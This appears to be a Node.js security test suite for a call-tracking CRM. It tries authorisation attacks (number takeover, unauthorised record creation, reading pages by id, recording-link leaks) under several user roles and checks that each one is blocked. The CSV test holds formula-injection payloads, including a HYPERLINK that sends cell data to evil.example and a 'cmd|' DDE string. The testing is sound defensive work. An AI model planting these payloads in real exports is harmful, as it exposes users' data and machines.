// Authorisation attacks of issue 16 (§1, §2, §9, §10), each tried as every
// kind of user an attacker inside the company can be: anonymous, the demo
// intern, another manager (the demo manager's permissions), a role with no
// permissions at all and a role whose every permission is scope "own". The suite prints a table (attack,
// attempts, blocked) like security.test.js; every attempt must be blocked.
//
// What "blocked" means is stated per attack: a number another manager's
// customer has still routes and links to that customer; a CRM page outside
// the user's scope answers no name, e-mail or phone; nothing is created
// without the edit permission; JSON carries no recording link the HTML
// would not show; no spreadsheet split of the CSV starts a formula.
import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { Client } from '../lib/http.js';
import { postGeneric, api, callsOf, uid } from '../lib/generic.js';
import { sql } from '../lib/db.js';

const table = [];
function record(attack, attempts, blocked, missed = []) {
  table.push({ attack, attempts, blocked });
  assert.equal(blocked, attempts, `${attack}: not blocked: ${missed.slice(0, 5).join(' | ')}`);
}
after(() => {
  const w = Math.max(...table.map((r) => r.attack.length), 6);
  console.log(`\n| ${'attack'.padEnd(w)} | attempts | blocked |`);
  console.log(`|${'-'.repeat(w + 2)}|----------|---------|`);
  for (const r of table) console.log(`| ${r.attack.padEnd(w)} | ${String(r.attempts).padStart(8)} | ${String(r.blocked).padStart(7)} |`);
});

const ALL_PERMS = ['calls', 'orders.calls', 'customers.calls', 'recordings.listen',
  'recordings.download', 'calls.dial', 'settings', 'customers', 'customers.edit',
  'orders', 'orders.edit', 'leads', 'leads.edit'];
const stamp = () => `${Date.now().toString(36)}${Math.floor(Math.random() * 1e6).toString(36)}`;
let seq = 0;
const freshPhone = () => '+38093' + String(Date.now() * 10 + (seq++ % 10)).slice(-7);

// A page every session may open, for the CSRF token of roles without
// `calls` (Client.csrf() reads /calls).
async function csrfOf(c) {
  const page = await c.get('/settings/users/me');
  const m = page.text_.match(/name="csrf" value="([^"]+)"/);
  return m && m[1];
}

async function session(login, password = login) {
  const c = new Client();
  await c.login(login, password);
  return c;
}

// A role through the role editor (every permission named, the new ones
// too) and a user with it; returns the logged-in client and the user id.
async function roleUser(admin, prefix, scopes) {
  const name = `${prefix}${stamp()}`;
  const form = { csrf: await csrfOf(admin), name, description: 'authz test' };
  for (const p of ALL_PERMS) form[`perm_${p}`] = scopes[p] || 'none';
  const r = await admin.post('/settings/roles', { form });
  assert.equal(r.status, 303, `role ${name}: ${r.status} ${r.text_.slice(0, 300)}`);
  const [[roleId]] = await sql('SELECT id FROM roles WHERE name = ?', [name]);
  const login = `${prefix}${stamp()}`;
  const u = await admin.post('/settings/users', { form: { csrf: await csrfOf(admin), name: `Authz ${prefix}`,
    login, role_id: String(roleId), password: 'long enough pw', time_zone: 'UTC', active: '1' } });
  assert.equal(u.status, 303, `user ${login}: ${u.status} ${u.text_.slice(0, 300)}`);
  const [[id]] = await sql('SELECT id FROM users WHERE login = ?', [login]);
  return { client: await session(login, 'long enough pw'), id: Number(id) };
}

const OWN = {
  calls: 'own', 'customers.calls': 'own', 'orders.calls': 'own', 'calls.dial': 'own',
  customers: 'own', 'customers.edit': 'own', orders: 'own', 'orders.edit': 'own',
  leads: 'own', 'leads.edit': 'own',
};

let users; // name → { client, id }: the attackers
let manager; // the victim's manager (demo `manager`, extension 101)
let victim; // the manager's customer, with number, order, lead and a call

before(async () => {
  const admin = await session('admin');
  const [[managerId]] = await sql("SELECT id FROM users WHERE login = 'manager'");
  manager = await session('manager');
  users = {
    anonymous: { client: new Client(), id: 0 },
    intern: { client: await session('intern'), id: 0 },
    // Another manager: the demo manager's permissions, not the victim's
    // manager.
    'other manager': await roleUser(admin, 'othermgr', {
      calls: 'all', 'customers.calls': 'all', 'orders.calls': 'all', 'recordings.listen': 'all',
      'recordings.download': 'all', 'calls.dial': 'all', customers: 'all', 'customers.edit': 'own',
      orders: 'all', 'orders.edit': 'own', leads: 'all', 'leads.edit': 'own' }),
    'no permissions': await roleUser(admin, 'noperm', {}),
    'own scope': await roleUser(admin, 'ownscope', OWN),
  };
  // The victim: a customer of `manager` (extension 101) with an order, a
  // lead and a call, created through the JSON API as a CRM would.
  const phone = freshPhone();
  const made = await api('/api/v1/customers', {
    method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'Victim Secretname', email: 'victim@secret.example', phones: [phone], manager_login: 'manager' }),
  });
  assert.equal(made.status, 201, made.text_);
  const [[cust]] = await sql('SELECT customer_id FROM customer_phones WHERE phone = ?', [phone]);
  const [[status]] = await sql("SELECT id FROM order_statuses WHERE status_group = 'open' LIMIT 1");
  await sql(`INSERT INTO orders (number, customer_id, status_id, manager_id, total, currency)
    VALUES (?, ?, ?, ?, 10, 'UAH')`, [`AZ${stamp()}`, cust, status, managerId]);
  const [[order]] = await sql('SELECT MAX(id) FROM orders WHERE customer_id = ?', [cust]);
  await sql(`INSERT INTO leads (name, phone, customer_id, manager_id, lead_type, state)
    VALUES ('Victim Secretlead', ?, ?, ?, 'call', 'open')`, [phone, cust, managerId]);
  const [[lead]] = await sql('SELECT MAX(id) FROM leads WHERE customer_id = ?', [cust]);
  victim = { phone, customer: Number(cust), order: Number(order), lead: Number(lead) };
  victim.call = await incoming(phone);
  const [[linked]] = await sql('SELECT customer_id FROM calls WHERE id = ?', [victim.call]);
  assert.equal(Number(linked), victim.customer, 'the victim\'s call links to them');
});

// An incoming call through the generic integration; its id.
async function incoming(from) {
  const ext = uid('authz');
  const t = Math.floor(Date.now() / 1000);
  const res = await postGeneric({ event: 'call.end', call_id: ext, direction: 'in', from,
    did: '+380443900400', ext: '101', status: 'answered', start: t - 30, answer: t - 20, end: t, billsec: 20 });
  assert.equal(res.status, 200, res.text_);
  return (await callsOf('generic', ext))[0].id;
}

// Where calls from the victim's number go now: the routing answer and the
// customer a new call links to.
async function victimStillOwnsNumber() {
  const route = await api(`/api/v1/route?phone=${encodeURIComponent(victim.phone)}&integration=generic`);
  const call = await incoming(victim.phone);
  const [[linked]] = await sql('SELECT customer_id FROM calls WHERE id = ?', [call]);
  return route.status === 200 && route.json_.customer && route.json_.extension === '101' &&
    /Victim Secretname/.test(route.json_.customer.name) && Number(linked) === victim.customer;
}

test('taking over another manager\'s customer\'s number (issue 16 §1)', async () => {
  const national = '0' + victim.phone.slice(4);
  const spaced = `+${victim.phone.slice(1, 3)} ${victim.phone.slice(3, 5)} ${victim.phone.slice(5, 8)} ${victim.phone.slice(8)}`;
  let attempts = 0; let blocked = 0; const missed = [];
  for (const [who, u] of Object.entries(users)) {
    for (const phone of [victim.phone, national, spaced]) {
      for (const withCall of [false, true]) {
        attempts++;
        const form = { csrf: (await csrfOf(u.client)) || 'none', name: `Attacker ${who}`, phone };
        if (withCall) form.call = String(victim.call);
        const r = await u.client.post('/customers', { form });
        const owned = await victimStillOwnsNumber();
        // Refused outright, or saved with the number flagged: either
        // way the victim keeps the calls and the routing.
        if (owned && r.status !== 500) blocked++;
        else missed.push(`${who} ${phone}${withCall ? ' +call' : ''} → ${r.status}, routing moved`);
      }
    }
  }
  record('take over a customer\'s number (routing, linking)', attempts, blocked, missed);
});

test('a role without customers.edit / orders.edit / leads.edit creates nothing', async () => {
  const [[before]] = await sql('SELECT (SELECT COUNT(*) FROM customers) + (SELECT COUNT(*) FROM orders) + (SELECT COUNT(*) FROM leads)');
  const [[status]] = await sql("SELECT id FROM order_statuses WHERE status_group = 'open' LIMIT 1");
  let attempts = 0; let blocked = 0; const missed = [];
  for (const who of ['anonymous', 'intern', 'no permissions']) {
    const c = users[who].client;
    const csrf = (await csrfOf(c)) || 'none';
    const tries = [
      ['GET', '/customers/new', null], ['GET', '/orders/new', null], ['GET', '/leads/new', null],
      ['GET', `/orders/new?customer=${victim.customer}`, null],
      ['POST', '/customers', { csrf, name: 'Sneaky', phone: freshPhone() }],
      ['POST', '/orders', { csrf, customer: String(victim.customer), status: String(status), total: '1' }],
      ['POST', '/leads', { csrf, name: 'Sneaky lead', customer: String(victim.customer) }],
      ['POST', '/leads', { csrf, name: 'Sneaky lead', phone: freshPhone() }],
    ];
    for (const [method, path, form] of tries) {
      attempts++;
      const r = method === 'GET' ? await c.get(path) : await c.post(path, { form });
      const refused = who === 'anonymous' ? [303, 401, 403].includes(r.status) : r.status === 403;
      if (refused && !/Victim Secretname/.test(r.text_)) blocked++;
      else missed.push(`${who} ${method} ${path} → ${r.status}`);
    }
  }
  const [[afterN]] = await sql('SELECT (SELECT COUNT(*) FROM customers) + (SELECT COUNT(*) FROM orders) + (SELECT COUNT(*) FROM leads)');
  attempts++;
  if (afterN === before) blocked++; else missed.push(`${afterN - before} records created`);
  record('create customer/order/lead without the edit permission', attempts, blocked, missed);
});

test('an order or lead cannot be hung on a customer outside the user\'s scope', async () => {
  const { client } = users['own scope'];
  const [[status]] = await sql("SELECT id FROM order_statuses WHERE status_group = 'open' LIMIT 1");
  const [[before]] = await sql('SELECT (SELECT COUNT(*) FROM orders WHERE customer_id = ?) + (SELECT COUNT(*) FROM leads WHERE customer_id = ?)', [victim.customer, victim.customer]);
  let attempts = 0; let blocked = 0; const missed = [];
  const csrf = await csrfOf(client);
  for (const [path, form] of [
    ['/orders', { csrf, customer: String(victim.customer), status: String(status), total: '5' }],
    ['/leads', { csrf, customer: String(victim.customer), name: 'Hung lead' }],
    ['/leads', { csrf, customer: String(victim.customer) }],
  ]) {
    attempts++;
    const r = await client.post(path, { form });
    if (r.status === 400 && !/Victim Secretname/.test(r.text_)) blocked++;
    else missed.push(`${path} → ${r.status}`);
  }
  for (const path of [`/orders/new?customer=${victim.customer}`, `/leads/new?customer=${victim.customer}`]) {
    attempts++;
    const r = await client.get(path);
    if (!/Victim Secretname/.test(r.text_)) blocked++;
    else missed.push(`${path} names the customer`);
  }
  const [[afterN]] = await sql('SELECT (SELECT COUNT(*) FROM orders WHERE customer_id = ?) + (SELECT COUNT(*) FROM leads WHERE customer_id = ?)', [victim.customer, victim.customer]);
  attempts++;
  if (afterN === before) blocked++; else missed.push('an order or lead was attached');
  record('attach an order/lead to another manager\'s customer', attempts, blocked, missed);
});

test('customer, order and lead pages by id outside the role or scope (issue 16 §2)', async () => {
  const secrets = /Victim Secret|victim@secret\.example/;
  const pages = [`/customers/${victim.customer}`, `/orders/${victim.order}`, `/leads/${victim.lead}`];
  let attempts = 0; let blocked = 0; const missed = [];
  for (const who of ['anonymous', 'intern', 'no permissions', 'own scope']) {
    const c = users[who].client;
    for (const p of pages) {
      for (const variant of ['', '?format=json', '?created=1']) {
        for (const accept of [undefined, 'application/json']) {
          attempts++;
          const r = await c.get(p + variant, { headers: accept ? { accept } : {} });
          const leaked = secrets.test(r.text_) || r.text_.includes(victim.phone);
          if (r.status !== 200 && r.status !== 500 && !leaked) blocked++;
          else missed.push(`${who} ${p}${variant} → ${r.status}${leaked ? ' leaked' : ''}`);
        }
      }
    }
  }
  record('read a customer/order/lead page by id', attempts, blocked, missed);
  // The manager (scope all) still reads them.
  for (const p of pages) {
    const r = await manager.get(p);
    assert.equal(r.status, 200, `${p} for the manager`);
  }
});

test('JSON of the history carries no recording link the page would not show (issue 16 §9)', async () => {
  const admin = await session('admin');
  const listenOnly = await roleUser(admin, 'listen', { calls: 'all', 'recordings.listen': 'all' });
  const [[recorded]] = await sql("SELECT COUNT(*) FROM calls WHERE recording_state = 'stored'");
  assert.ok(Number(recorded) > 0, 'demo calls have recordings');
  let attempts = 0; let blocked = 0; const missed = [];
  const cases = [
    ['intern', users.intern.client, /recording_url|download_url/],
    ['own scope', users['own scope'].client, /recording_url|download_url/],
    ['listen, no download', listenOnly.client, /download_url/],
  ];
  for (const [who, c, forbidden] of cases) {
    for (const path of ['/calls?format=json', '/calls?recording=yes&format=json',
      '/calls?recording=yes&direction=in&format=json']) {
      for (const accept of [undefined, 'application/json']) {
        attempts++;
        const r = await c.get(accept ? path.replace(/[?&]format=json/, '') : path, { headers: accept ? { accept } : {} });
        let rows = null;
        try { rows = JSON.parse(r.text_).calls; } catch { rows = null; }
        const bad = rows && rows.filter((row) => Object.keys(row).some((k) => forbidden.test(k) && row[k]));
        if (r.status === 200 && rows && bad.length === 0) blocked++;
        else missed.push(`${who} ${path} → ${r.status}, ${bad ? bad.length : '?'} rows with links`);
      }
    }
  }
  // The manager still gets both links.
  const m = JSON.parse((await manager.get('/calls?recording=yes&format=json')).text_);
  assert.ok(m.calls.some((row) => row.recording_url && row.download_url), 'the manager keeps the links');
  record('recording links in ?format=json without the permission', attempts, blocked, missed);
});

// Excel in uk/ru/pl/es locales splits a "CSV" on ';' (and other importers on
// tabs or line breaks) whatever the quotes: no piece may start a formula.
test('CSV formula injection through ";" and "," splits (issue 16 §10)', async () => {
  const admin = await session('admin');
  const payloads = [
    'x;=HYPERLINK("http://evil.example/?"&A1,"open")', 'x;+1+cmd|\' /C calc\'!A0', 'x;-2+3',
    'x;@SUM(1+1)', 'x;"=1+1"', 'x,=1+1', 'x, ok;=2', 'line\n=1+1', 'tab\t=1+1', 'x;;=3',
  ];
  const marker = uid('csv');
  const ids = [];
  for (const p of payloads) {
    const id = await incoming(freshPhone());
    const r = await admin.post(`/calls/${id}/notes`, { form: { csrf: await admin.csrf(), note: `${marker} ${p}` } });
    assert.ok([200, 303].includes(r.status), `note: ${r.status} ${r.text_.slice(0, 200)}`);
    ids.push(id);
  }
  const r = await admin.get('/calls.csv');
  assert.equal(r.status, 200);
  let attempts = 0; let blocked = 0; const missed = [];
  const trigger = /^"*[=+\-@\t\r]/;
  for (const id of ids) {
    const start = r.text_.indexOf(`\r\n${id},`);
    assert.ok(start >= 0, `call ${id} is in the CSV`);
    // A row ends at CR LF; the notes hold a bare LF at most.
    const rowEnd = r.text_.indexOf('\r\n', start + 2);
    const row = r.text_.slice(start + 2, rowEnd > 0 ? rowEnd : undefined);
    assert.ok(row.includes(marker), `call ${id}: the note is in its row`);
    attempts++;
    // Every piece of the row after a ';', ',', tab or line break.
    const pieces = row.split(/[;,\t\r\n]/).slice(1);
    const bad = pieces.filter((x) => trigger.test(x));
    if (bad.length === 0) blocked++;
    else missed.push(`call ${id}: ${JSON.stringify(bad[0])}`);
  }
  record('CSV formula through a ; or , split', attempts, blocked, missed);
});
